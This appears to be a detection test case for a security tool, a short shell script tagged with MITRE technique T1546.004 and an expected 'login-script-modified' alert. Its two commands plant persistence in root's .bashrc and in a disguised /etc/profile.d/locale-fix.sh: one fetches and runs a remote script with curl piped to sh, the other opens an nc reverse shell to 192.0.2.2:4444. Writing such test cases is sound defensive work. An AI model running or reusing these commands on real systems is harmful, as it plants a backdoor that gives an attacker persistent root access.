# category: persistence
# technique: T1546.004
# art: yes
# expect: login-script-modified
# image: debian
# desc: every login shell will start a beacon: lines added to root's .bashrc and to /etc/profile.d
echo 'curl -s http://192.0.2.2/stage.sh | sh >/dev/null 2>&1 &' >> /root/.bashrc
echo 'nohup nc 192.0.2.2 4444 -e /bin/sh >/dev/null 2>&1 &' > /etc/profile.d/locale-fix.sh
